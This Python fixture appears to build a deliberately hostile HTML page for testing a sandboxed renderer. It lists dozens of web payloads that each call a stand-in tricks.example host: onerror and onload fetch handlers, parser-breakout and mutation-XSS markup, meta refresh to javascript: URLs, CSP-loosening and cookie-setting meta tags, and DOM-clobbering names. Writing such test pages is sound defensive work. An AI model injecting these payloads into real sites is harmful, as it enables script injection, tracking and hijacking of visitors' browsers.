"""A page that tries, in every way we know, to run, to ask somebody for something, and to lead its reader away.

Each way names a host of its own, so that whoever looks for what was asked knows which one it was.
"""

from __future__ import annotations

HOST = "{name}.tricks.example:{port}"

TRICKS = {
    "refresh": '<meta http-equiv="refresh" content="0;url=//{host}/">',
    "refresh-top": '<meta http-equiv="refresh" content="1;url=javascript:top.location=\'//{host}/\'">',
    "set-referrer": '<meta name="referrer" content="unsafe-url">',
    "prefetch-on": '<meta http-equiv="x-dns-prefetch-control" content="on">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//{host}/">',
    "preconnect": '<link rel="preconnect" href="//{host}/"><link rel="preconnect" href="//{host}/" crossorigin>',
    "prefetch": '<link rel="prefetch" href="//{host}/">',
    "prerender": '<link rel="prerender" href="//{host}/">',
    "preload": '<link rel="preload" as="script" href="//{host}/"><link rel="preload" as="image" href="//{host}/">',
    "modulepreload": '<link rel="modulepreload" href="//{host}/">',
    "manifest": '<link rel="manifest" href="//{host}/">',
    "icon": '<link rel="icon" href="//{host}/"><link rel="apple-touch-icon" href="//{host}/">',
    "stylesheet": '<link rel="stylesheet" href="//{host}/">',
    "import": "<style>@import '//{host}/'; @import url(//{host}/);</style>",
    "import-layers": "<style>@import '//{host}/' layer(x) supports(display: block) screen; @layer a;"
    "@import url('data:text/css,@import%20%22//{host}/%22;');</style>",
    "style-more": "<style>@font-face {{ font-family: g; src: local(x), url('//{host}/') format('woff2') }}"
    "@property --u {{ syntax: '<url>'; inherits: true; initial-value: url(//{host}/) }}"
    "@counter-style c {{ system: cyclic; symbols: url('//{host}/') }} li {{ list-style: url('//{host}/') }}"
    "p {{ border-image: url('//{host}/'); shape-outside: url('//{host}/'); offset-path: url('//{host}/#p');"
    "content: cross-fade(url('//{host}/'), url('//{host}/')); font: 9px g }} @namespace url('//{host}/');"
    "@view-transition {{ navigation: auto; types: x }} :root {{ view-transition-name: x }}</style><li>x<p>x",
    "style-url": "<style>body {{ background: url(//{host}/) }} *::before {{ content: url(//{host}/) }}</style>",
    "style-attribute": '<div style="background-image: url(//{host}/); cursor: url(//{host}/), auto">x</div>',
    "image-set": '<div style="background-image: image-set(url(//{host}/) 1x)">x</div>',
    "font": "<style>@font-face {{ font-family: f; src: url(//{host}/) }} p {{ font-family: f }}</style><p>f</p>",
    "filter": '<div style="filter: url(//{host}/#f); mask: url(//{host}/#m); clip-path: url(//{host}/#c)">x</div>',
    "image": '<img src="//{host}/"><img srcset="//{host}/ 2x, //{host}/ 1x"><image src="//{host}/">',
    "picture": '<picture><source srcset="//{host}/"><img src="//{host}/" loading="eager"></picture>',
    "attribution": '<img attributionsrc="//{host}/"><a attributionsrc="//{host}/" href="//{host}/">a</a>',
    "background": '<table background="//{host}/"><tr><td background="//{host}/">x</table>',
    "input-image": '<input type="image" src="//{host}/">',
    "video": '<video src="//{host}/" poster="//{host}/" autoplay muted></video>',
    "audio": '<audio src="//{host}/" autoplay></audio><video><track default src="//{host}/"></video>',
    "object": '<object data="//{host}/"></object><embed src="//{host}/"><applet code="//{host}/"></applet>',
    "frame": '<iframe src="//{host}/"></iframe><iframe srcdoc="<img src=//{host}/><script src=//{host}/></script>">'
    "</iframe><portal src='//{host}/'></portal><fencedframe src='//{host}/'></fencedframe>",
    "svg": '<svg><image href="//{host}/"/><use href="//{host}/#x"/><feImage href="//{host}/"/>'
    "<script href=\"//{host}/\"></script><style>@import '//{host}/';</style></svg>",
    "svg-style": '<svg><style><p title="</style><link rel=preconnect href=//{host}/><img src=//{host}/>">',
    "math": '<math href="//{host}/"><mtext><table><mglyph><style><img src=//{host}/ onerror=go()></style></math>',
    "script": '<script src="//{host}/"></script><script>new Image().src="//{host}/"</script>',
    "module": '<script type="module">import "//{host}/"</script>',
    "speculation": '<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["//{host}/"]}}]}}</script>',
    "importmap": '<script type="importmap">{{"imports":{{"x":"//{host}/"}}}}</script>',
    "handlers": '<img src="x:" onerror="fetch(\'//{host}/\')"><body onload="fetch(\'//{host}/\')">'
    "<details open ontoggle=\"fetch('//{host}/')\">x</details><input autofocus onfocus=\"fetch('//{host}/')\">"
    "<p style='animation: a 1s' onanimationstart=\"fetch('//{host}/')\"></p>",
    "base": '<base href="//{host}/" target="_top"><img src="by-base">',
    "template": '<template shadowrootmode="open"><link rel="preconnect" href="//{host}/"></template>',
    "shadow": '<div><template shadowrootmode="open"><img src="//{host}/"><slot></slot></template>x</div>',
    "noscript": '<noscript><img src="//{host}/"><meta http-equiv="refresh" content="0;url=//{host}/"></noscript>',
    "comment": '<!--><link rel="preconnect" href="//{host}/"><!-- --!><link rel="preconnect" href="//{host}/">-->',
    "noembed": '<noembed><p title="</noembed><link rel=preconnect href=//{host}/>"></noembed>',
    "xmp": '<xmp><p title="</xmp><link rel=preconnect href=//{host}/>"></xmp>',
    "textarea": '<textarea><p title="</textarea><link rel=preconnect href=//{host}/>"></textarea>',
    "title": '<title><p title="</title><link rel=preconnect href=//{host}/>"></title>',
    "style-end": '<style>p::before {{ content: "</style ><link rel=preconnect href=//{host}/>" }}</style>',
    "select": "<select><style></select><link rel=preconnect href=//{host}/></style></select>",
    "attribute": "<p title='`><link rel=preconnect href=//{host}/>' data-x='\"><link rel=preconnect href=//{host}/>'>",
    "cdata": "<svg><![CDATA[<link rel=preconnect href=//{host}/>]]></svg>"
    "<![CDATA[><link rel=preconnect href=//{host}/>]]>",
    "custom": '<x-link rel="preconnect" href="//{host}/" onclick="go()">x</x-link>',
    "form": '<form id="f" action="//{host}/" method="post" target="_top"><button id="send">send</button></form>'
    '<button form="f" formaction="//{host}/" formtarget="_top" id="send2">send</button>',
    "link-top": '<a id="top" href="//{host}/" target="_top" ping="//{host}/">top</a>',
    "link-blank": '<a id="blank" href="//{host}/" target="_blank" rel="opener">blank</a>',
    "link-self": '<a id="self" href="//{host}/">self</a>',
    "link-download": '<a id="save" href="//{host}/" download>save</a>',
    "link-script": '<a id="run" href="javascript:top.ran=1;fetch(\'//{host}/\')" target="_top">run</a>',
    "link-data": '<a id="data" href="data:text/html,<script>top.ran=1</script>" target="_top">data</a>',
    "area": '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="40" height="20"><map name="m">'
    '<area id="area" shape="default" href="//{host}/" target="_top"></map>',
    "svg-link": '<svg width="50" height="20"><a href="//{host}/" target="_top"><text y="15">svg</text></a></svg>',
    "popover": '<button id="pop" popovertarget="p" command="show-modal" commandfor="p">p</button>'
    '<dialog id="p">x</dialog>',
    "data-svg": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>"
    "<image href='//{host}/'/><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//{host}/'/>"
    "</foreignObject><style>@import '//{host}/';</style><script>fetch('//{host}/')</script></svg>\">",
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src * data: \'unsafe-inline\'">'
    '<meta http-equiv="Set-Cookie" content="taken=1"><meta http-equiv="Link" content="<//{host}/>; rel=preconnect">'
    '<img src="//{host}/">',
    "compression": '<link rel="compression-dictionary" href="//{host}/">'
    '<link rel="payment-method-manifest" href="//{host}/"><link rel="pingback" href="//{host}/">',
    "target-top": '<a id="fragment" href="#:~:text=Tricks" target="_top">f</a>'
    '<a id="fragment2" href="#end" target="_parent" download>f</a>',
    "invoker": '<button id="invoke" commandfor="p2" command="show-popover" interestfor="p2">p</button>'
    '<div id="p2" popover><img src="//{host}/"></div>',
    "search-engine": '<link rel="search" type="application/opensearchdescription+xml" href="//{host}/">',
    "xml-stylesheet": '<?xml-stylesheet href="//{host}/" type="text/xsl"?>'
    '<?import namespace="t" implementation="//{host}/">',
    "name": '<iframe name="_parent"></iframe><form name="body"></form><img name="getElementById">',
}
CLICKED = ("top", "blank", "self", "save", "run", "data", "send", "send2", "pop", "fragment", "fragment2", "invoke")


def page(port: int) -> str:
    """All tricks, one after the other."""
    parts = []
    for name, markup in TRICKS.items():
        whole = markup.format(host=HOST.format(name=name, port=port))
        parts.append(whole.replace('"//', '"http://').replace("'//", "'http://"))
    head = "<!doctype html><html><head><title>Taken over</title></head>"
    return f"{head}<body><h1>Tricks</h1>{' '.join(parts)}</body></html>"
